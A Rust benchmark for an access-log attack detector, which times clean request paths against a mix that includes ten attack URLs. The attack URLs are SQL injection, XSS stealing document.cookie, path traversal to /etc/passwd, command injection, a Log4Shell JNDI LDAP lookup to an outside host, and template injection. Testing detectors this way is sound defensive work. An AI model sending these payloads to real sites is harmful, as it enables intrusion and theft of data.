//! Requests a second on one core: clean log lines, and a mix heavy with attacks.
//!
//! Synthetic requests, a few dozen different ones over and over: they say what the code costs, not
//! what a site's traffic costs.

#![expect(clippy::print_stdout, reason = "a bench prints its figures")]

use std::hint::black_box;
use std::time::{Duration, Instant};

use inspect::{AccessLog, inspect_access_log};

const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";

const BENIGN: &[&str] = &[
    "/",
    "/index.html",
    "/images/logo.png",
    "/blog/2014/02/presentations-and-slides.html",
    "/shop/item?id=4711&colour=dark-blue&size=42",
    "/search?q=gardening+tools&page=2&sort=price",
    "/api/v1/users/42/orders?limit=50&offset=100",
    "/static/js/app.3f2c1a.js",
    "/login?next=%2Faccount%2Fsettings",
    "/reset.css",
];

const ATTACKS: &[&str] = &[
    "/item?id=1%27%20union%20select%201,2,concat(user(),0x3a,version())--%20-",
    "/item?id=1%2527%2520or%25201%253D1--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/search?q=%22%20onmouseover=alert(1)%20x=%22",
    "/download?file=../../../../etc/passwd",
    "/cgi-bin/..%5c..%5c..%5cwinnt/system32/cmd.exe?/c+dir",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
    "/item?id=1%20and%20sleep(5)",
    "/page?name=%7B%7B7*7%7D%7D",
];

fn main() {
    let clean: Vec<&str> = BENIGN.to_vec();
    // Three clean requests for every two attacks.
    let mixed: Vec<&str> = BENIGN
        .iter()
        .zip(ATTACKS)
        .enumerate()
        .flat_map(
            |(at, (benign, attack))| {
                if at % 3 == 0 { [*benign, *benign] } else { [*benign, *attack] }
            },
        )
        .collect();
    measure("benign", &clean);
    measure("mixed", &mixed);
}

fn measure(name: &str, targets: &[&str]) {
    let begin = Instant::now();
    let cpu_begin = cpu_time();
    let mut requests = 0_u64;
    let mut attacks = 0_u64;
    while begin.elapsed() < Duration::from_secs(2) {
        for target in targets {
            let verdict = inspect_access_log(&AccessLog {
                method: "GET",
                target: black_box(target),
                referrer: Some("https://www.example.com/blog/"),
                user_agent: Some(AGENT),
            });
            attacks += u64::from(verdict.attack);
            requests += 1;
        }
    }
    let spent =
        cpu_time().zip(cpu_begin).map_or(begin.elapsed(), |(end, begin)| end.saturating_sub(begin));
    let per_second = u128::from(requests) * 1_000_000 / spent.as_micros();
    println!("{name}: {per_second} requests/s on one core, {attacks} of {requests} attacks");
}

/// The processor time of this thread, where the system tells it: other work on the machine then
/// does not count.
fn cpu_time() -> Option<Duration> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split(' ').next()?.parse().ok().map(Duration::from_nanos)
}
